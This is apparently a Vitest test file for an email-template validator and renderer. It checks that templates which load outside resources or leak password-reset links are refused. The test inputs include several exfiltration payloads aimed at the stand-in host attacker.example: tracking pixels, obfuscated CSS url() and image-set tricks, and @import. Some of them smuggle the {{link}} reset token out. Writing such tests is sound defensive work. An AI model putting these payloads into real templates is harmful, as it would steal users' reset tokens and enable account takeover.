import { describe, expect, it } from 'vitest'

import { renderEmail } from './compose'
import { DEFAULT_EMAIL_TEMPLATES, EMAIL_TEMPLATE_KEYS } from './defaults'
import { templateProblems } from './template-safety'

const SITE = 'https://www.clearpath.example'
const LINK = `${SITE}/portal/reset-password/secret-token`

describe('templateProblems', () => {
  it('passes every built-in template', () => {
    for (const key of EMAIL_TEMPLATE_KEYS)
      expect(templateProblems(key, DEFAULT_EMAIL_TEMPLATES[key], SITE), key).toEqual([])
  })

  it('refuses outside resources and links elsewhere', () => {
    const paths = (html: string) =>
      templateProblems('password-reset', { subject: 's', text: 't', html }, SITE).map((p) => p.path)
    for (const html of [
      '<img src="https://attacker.example/p.gif">',
      '<p style="background:url(https://attacker.example/p.gif)">x</p>',
      '<p style="background-image:\\75 rl(https://attacker.example/p.gif)">x</p>',
      '<p style="background-image:\\0075rl(https://attacker.example/p.gif)">x</p>',
      '<p style="background-image:u/**/rl(https://attacker.example/p.gif)">x</p>',
      '<p style="background-image:image-set(&quot;https://attacker.example/p.gif&quot; 1x)">x</p>',
      '<p style="background-image:-webkit-image-set(\'https://attacker.example/p.gif\' 1x)">x</p>',
      '<table background="https://attacker.example/p.gif"></table>',
      '<link rel="stylesheet" href="https://attacker.example/s.css">',
      '<style>@import "https://attacker.example/s.css"</style>',
      '<a href="https://attacker.example/">x</a>',
      '<a href="{{first_name}}">x</a>',
    ])
      expect(paths(html), html).toContain('html')
    expect(paths(`<a href="${SITE}/blog">Our blog</a> <a href="mailto:hi@example.com">hi</a>`)).toEqual([])
  })

  it("lets a link go to a value the code fills with this site's address, if the message supplies it", () => {
    const html = (href: string) => ({ subject: 's', text: 't', html: `<a href="${href}">Open</a>` })
    expect(templateProblems('lead-assigned', html('{{portal_link}}'), SITE)).toEqual([])
    expect(templateProblems('meeting-booked', html('{{ manage_link }}'), SITE)).toEqual([])
    // A _link value another message supplies is not one of this message's values.
    expect(templateProblems('lead-assigned', html('{{manage_link}}'), SITE)).toEqual([
      { path: 'html', message: '{{manage_link}} is not available in this message.' },
    ])
    // A value that is not a link cannot be a link's address.
    expect(templateProblems('lead-assigned', html('{{company}}'), SITE).map((p) => p.path)).toEqual(['html'])
  })

  it('refuses values the message does not supply', () => {
    const ack = { subject: 'Thanks, {{first_name}}', text: 'Hello', html: '<p>{{office_hours}}</p>' }
    expect(templateProblems('lead-acknowledgement', ack, SITE)).toEqual([
      { path: 'subject', message: '{{first_name}} is not available in this message.' },
    ])
  })

  it('refuses the link placeholder anywhere but as text of its own', () => {
    const check = (t: { subject?: string; text?: string; html?: string }) =>
      templateProblems('password-reset', { subject: 's', text: 't', html: '<p>x</p>', ...t }, SITE).map((p) => p.path)
    expect(check({ html: `<a href='https://attacker.example/?t=>{{link}}'>x</a>` })).toContain('html')
    expect(check({ html: '<img src="https://attacker.example/p.gif?t={{link}}">' })).toContain('html')
    expect(check({ html: '<p>Use this: {{link}}</p>' })).toEqual([])
    expect(check({ text: 'Click https://attacker.example/?t={{link}}' })).toEqual(['text'])
    expect(check({ text: 'Here:\n{{link}}\nThanks' })).toEqual([])
    expect(check({ subject: 'Your link {{link}}' })).toEqual(['subject'])
  })
})

describe('renderEmail', () => {
  const vars = { first_name: 'Ada', link: LINK }

  it('writes the password link itself, once per part, where {{link}} stands', () => {
    const mail = renderEmail('password-reset', DEFAULT_EMAIL_TEMPLATES['password-reset'], vars, SITE)
    expect(mail.text.split(LINK)).toHaveLength(2)
    expect(mail.html).toContain(`href="${LINK}"`)
    expect(mail.html).toContain('Choose a new password')
    expect(mail.subject).not.toContain(LINK)
  })

  it('a stored template that would leak the link is replaced by the built-in one', () => {
    const leaking = {
      subject: 'Reset',
      text: 'Hello',
      html: '<p>Hello</p><img src="https://attacker.example/p.gif?t={{link}}">',
    }
    const mail = renderEmail('password-reset', leaking, vars, SITE)
    expect(mail.html).not.toContain('attacker.example')
    expect(mail.html).toBe(renderEmail('password-reset', DEFAULT_EMAIL_TEMPLATES['password-reset'], vars, SITE).html)
  })

  it('a template without {{link}} still gets the link, at the end', () => {
    const mail = renderEmail(
      'access-approved',
      { subject: 'Welcome', text: 'Hi {{first_name}}', html: '<p>Hi</p>' },
      vars,
      SITE,
    )
    expect(mail.text).toBe(`Hi Ada\n\n${LINK}`)
    expect(mail.html).toContain(`href="${LINK}"`)
  })

  it('other messages render their placeholders as before', () => {
    const mail = renderEmail('access-rejected', DEFAULT_EMAIL_TEMPLATES['access-rejected'], { first_name: 'Ada' }, SITE)
    expect(mail.text).toContain('Hello Ada,')
  })
})
